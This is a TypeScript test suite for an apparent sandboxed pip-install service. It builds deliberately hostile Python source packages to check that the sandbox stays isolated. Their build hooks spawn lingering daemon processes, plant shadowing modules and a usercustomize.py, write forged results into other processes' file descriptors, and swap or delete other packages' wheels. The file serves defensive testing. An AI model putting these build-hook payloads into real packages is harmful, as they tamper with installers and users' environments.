// SPDX-License-Identifier: Apache-2.0
// SANDBOX_PIP_SOURCE_BUILDS=on: the program of a package runs where its wheel is built. It leaves processes behind, writes to whatever it can reach,
// and still decides about nothing but its own wheel.

import assert from 'node:assert/strict';
import * as zlib from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { facts, open, type Json, type Session } from '../lib/session.ts';
import { tar } from '../lib/oci.ts';
import { Index, wheel, wheelName } from '../lib/wheel.ts';

/** A source archive that builds itself, without any other package. EVIL is Python that runs in each of its hooks, with `stage` and `ask`. */
function source(name: string, evil: string, requires: string[] = [], tools: string[] = []): { file: string; body: Buffer } {
	const info = `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n${requires.map((r) => `Requires-Dist: ${r}\n`).join('')}`;
	const backend = `
import os, sys, time, zipfile, urllib.request
INFO = ${JSON.stringify(info)}

def ask(what):
    urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'})).open(INDEX + '/said-' + what + '/', timeout=5)

def linger(work, seconds=20):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open('/dev/null', os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    os.closerange(3, 256)
    end = time.time() + seconds
    try:
        while time.time() < end:
            work()
            time.sleep(0.0005)
    finally:
        os._exit(0)

def run(stage):
${evil.trim().split('\n').map((l) => `    ${l}`).join('\n')}

def prepare_metadata_for_build_wheel(folder, config_settings=None):
    run('metadata')
    os.mkdir(folder + '/${name}-1.0.dist-info')
    for file, text in ('METADATA', INFO), ('WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'):
        with open(folder + '/${name}-1.0.dist-info/' + file, 'w') as f:
            f.write(text)
    return '${name}-1.0.dist-info'

def build_wheel(folder, config_settings=None, metadata_directory=None):
    run('wheel')
    file = '${name}-1.0-py3-none-any.whl'
    with zipfile.ZipFile(folder + '/' + file, 'w') as z:
        z.writestr('${name}.py', 'who = "built"\\n')
        z.writestr('${name}-1.0.dist-info/METADATA', INFO)
        z.writestr('${name}-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        z.writestr('${name}-1.0.dist-info/RECORD', '${name}.py,,\\n${name}-1.0.dist-info/METADATA,,\\n${name}-1.0.dist-info/WHEEL,,\\n${name}-1.0.dist-info/RECORD,,\\n')
    return file
`.replace('INDEX +', `'${index.url}' +`);
	return { file: `${name}-1.0.tar.gz`, body: zlib.gzipSync(tar([
		{ name: `${name}-1.0/pyproject.toml`, body: `[build-system]\nrequires = ${JSON.stringify(tools)}\n`
			+ 'build-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "' + name + '"\nversion = "1.0"\n' },
		{ name: `${name}-1.0/PKG-INFO`, body: info },
		{ name: `${name}-1.0/backend.py`, body: backend }])) };
}

const index = new Index();

/** Puts an answer in the place of that of the installer, and modules where it could import them from. */
const forge = `
work = '/mnt/data'
lie = b'{"plan": [], "wheels": []}'
module = b'import os\\nos.write(1, b"forged")\\nraise SystemExit(0)\\n'
for place in [work + '/json.py', work + '/zipfile.py', work + '/tempfile.py', '/tmp/have/json.py', '/tmp/have/pip/__init__.py',
        os.path.expanduser('~/.local/lib/python%d.%d/site-packages/usercustomize.py' % sys.version_info[:2])]:
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, 'wb') as f:
        f.write(module)
pip = os.getppid()
first = []
def replace():
    if not first:
        first.append(ask('lingers-' + stage))
    for _ in range(100):
        for name in 'result.json', 'report.json':
            with open(work + '/.lie', 'wb') as f:
                f.write(lie)
            os.rename(work + '/.lie', work + '/' + name)
def write():
    for pid in range(2, pip + 1): # its parent was started before it
        for n in range(1, 12):
            try:
                fd = os.open('/proc/%d/fd/%d' % (pid, n), os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, lie)
                os.close(fd)
            except OSError:
                pass
linger(replace)
linger(write)
time.sleep(0.5)`;

/** Puts another wheel in the place of that of the index, again and again. */
const swap = (name: string): string => `
import glob
lie = bytes.fromhex('${wheel(name, '1.0', 'who = "forged"').toString('hex')}')
first = []
def write():
    if not first:
        first.append(ask('swaps-' + stage))
    for root, folders, files in os.walk('/mnt/data'):
        for file in files:
            if file.startswith('${name}-1.0') and file.endswith('.whl'):
                with open(root + '/' + file, 'wb') as f:
                    f.write(lie)
linger(write)
time.sleep(0.5)`;

/** Removes the wheel of another package that pip has fetched for the same installation. */
const erase = (name: string): string => `
import glob
for file in glob.glob('/mnt/data/wheels/${name}-*.whl') if stage == 'wheel' else []:
    os.remove(file)
    try:
        ask('erased')
    except OSError: # the index has nothing of that name
        pass`;

describe('packages that are built from source', () => {
	let s: Session;
	const install = async (packages: string, session_id: string): Promise<Json> => facts(await s.raw('sandbox_install_packages', { packages, session_id }));
	const python = async (code: string, session_id: string): Promise<string> => {
		const r = facts(await s.raw('sandbox_run_python', { code, session_id }));
		return `${r.stdout}${r.stderr}`;
	};

	before(async () => {
		await index.open();
		index.add('good', { file: wheelName('good', '1.0'), body: wheel('good', '1.0', 'who = "good"\n') });
		index.add('honest', source('honest', 'pass', ['good']));
		index.add('liar', source('liar', forge, ['good']));
		index.add('swapper', source('swapper', swap('good'), ['good']));
		index.add('eraser', source('eraser', erase('good'), ['good']));
		index.add('tooled', source('tooled', 'import tool\ntool.work', [], ['tool>=1']));
		index.add('tool', { file: wheelName('tool', '1.0'), body: wheel('tool', '1.0', 'work = 1\n') });
		index.add('clinger', source('clinger', 'linger(lambda: time.sleep(1), 600)'));
		s = await open('stdio', { profile: 'all', env: { SANDBOX_PIP_INDEX_URL: index.url, SANDBOX_PIP_SOURCE_BUILDS: 'on', SANDBOX_INSTALL_MAX_BYTES: '16m', SANDBOX_POOL: '0' } });
	});
	after(async () => {
		await s.end();
		index.close();
	});

	it('(slow) an honest one is built and installed, with what it needs', async () => {
		const r = await install('honest', 'honest');
		assert.deepEqual(r.installed?.sort(), ['good==1.0', 'honest==1.0'], JSON.stringify(r));
		assert.equal(await python('import honest, good; print(honest.who, good.who)', 'honest'), 'built good\n');
	});
	it('(slow) what a build needs comes from the index', async () => {
		const r = await install('tooled', 'tooled');
		assert.deepEqual(r.installed, ['tooled==1.0'], JSON.stringify(r));
	});
	it('(slow) processes that it leaves behind cannot answer in its place', async () => {
		const r = await install('liar', 'liar');
		assert.ok(index.asked.some((a) => a.includes('said-lingers-metadata')), `twin: they were at work ${JSON.stringify(r)}`);
		assert.deepEqual(r.installed?.sort(), ['good==1.0', 'liar==1.0'], JSON.stringify(r));
		assert.equal(await python('import liar, good; print(liar.who, good.who)', 'liar'), 'built good\n');
	});
	it('(slow) a wheel of the index stays what the index says of it', async () => {
		const r = await install('swapper', 'swapper');
		assert.ok(index.asked.some((a) => a.includes('said-swaps-')), 'twin: it was at work');
		if (r.status === 'success')
			assert.equal(await python('import good; print(good.who)', 'swapper'), 'good\n');
		else
			assert.equal(r.error, 'package_failed', JSON.stringify(r));
		assert.doesNotMatch(await python('import good; print(good.who)', 'swapper'), /forged/);
	});
	it('(slow) a wheel of the index that it removes is missed by its name', async () => {
		const r = await install('eraser', 'eraser');
		assert.ok(index.asked.some((a) => a.includes('said-erased')), 'twin: it was there');
		assert.equal(r.error, 'package_failed', JSON.stringify(r));
		assert.match(JSON.stringify(r), /no wheel was built: good/);
		assert.equal(await python('print(1)', 'eraser'), '1\n');
	});
	it('a process that stays does not hold the installation up', async () => {
		const began = Date.now();
		assert.equal((await install('clinger', 'clinger')).status, 'success');
		assert.ok(Date.now() - began < 60_000);
	});
});
